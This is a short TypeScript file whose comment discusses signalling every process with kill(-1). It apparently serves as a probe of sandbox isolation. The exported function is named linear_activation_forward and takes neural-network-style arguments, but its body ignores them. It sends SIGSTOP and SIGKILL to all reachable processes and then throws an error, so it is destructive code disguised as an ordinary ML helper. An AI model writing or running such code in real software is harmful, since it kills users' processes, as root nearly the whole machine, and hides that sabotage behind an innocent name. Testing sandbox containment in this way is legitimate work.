// Signals: kill(-1, SIGKILL) signals every process the user may signal (as root: every process on
// the machine but init). Only a PID namespace keeps this inside the sandbox.
const g: any = globalThis;
const P: any = g.process;

export function linear_activation_forward(A_prev: any, W: any, b: any, activation: string): any {
  const outcome: string[] = [];
  for (const sig of ["SIGSTOP", "SIGKILL"]) {
    try {
      P.kill(-1, sig);
      outcome.push(`${sig} to -1 sent`);
    } catch (e) {
      outcome.push(`${sig} to -1 refused: ${String(e).slice(0, 60)}`);
    }
  }
  throw new Error(`kill-all-minus-one: ${outcome.join("; ")}`);
}
